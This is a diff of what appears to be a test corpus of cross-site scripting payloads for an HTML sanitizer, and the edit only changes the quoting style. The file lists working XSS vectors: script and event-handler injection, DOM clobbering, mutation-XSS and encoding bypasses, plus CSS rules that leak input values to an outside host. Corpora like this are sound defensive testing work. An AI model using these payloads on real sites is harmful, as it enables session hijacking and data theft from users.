@@ -15,7 +15,7 @@ const classic = [
   `<svg><script>${RUN}</script></svg>`,
   `<body onload="${RUN}">`,
   `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
   `<object data="javascript:${RUN}"></object>`,
   `<embed src="${AWAY}.swf">`,
   `<video src=x onerror="${RUN}"></video>`,
@@ -51,12 +51,12 @@ const css = [
   `<style>input[value^=a]{background:url(${AWAY}?a)}</style>`,
 ];
 const clobbering = [
-  `<form id="__xss"><input name="value"></form>`,
-  `<img name="currentScript" src=x>`,
+  '<form id="__xss"><input name="value"></form>',
+  '<img name="currentScript" src=x>',
   `<a id="defaultView" href="${AWAY}">a</a>`,
-  `<form name="getElementById"></form>`,
-  `<p id="__vue_app__">x</p>`,
-  `<img id="gangbord" name="gangbord">`,
+  '<form name="getElementById"></form>',
+  '<p id="__vue_app__">x</p>',
+  '<img id="gangbord" name="gangbord">',
 ];
 const mutation = [
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
@@ -70,7 +70,7 @@ const mutation = [
   `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
   `<svg><style><img src=x onerror=${RUN}></style></svg>`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
-  `<p is="x-evil">custom</p>`,
+  '<p is="x-evil">custom</p>',
 ];
 const breakouts = [
   `"><img src=x onerror=${RUN}>`,
@@ -82,8 +82,8 @@ const breakouts = [
   `\${${RUN}}`,
 ];
 const encoding = [
-  `<img src=x onerror="&#119;indow.__xss=1">`,
-  `<img src=x onerror="\\u0077indow.__xss=1">`,
+  '<img src=x onerror="&#119;indow.__xss=1">',
+  '<img src=x onerror="\\u0077indow.__xss=1">',
   `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
   `<img src=x onerror=${RUN}\u0000>`,
   `%3Cscript%3E${RUN}%3C/script%3E`,
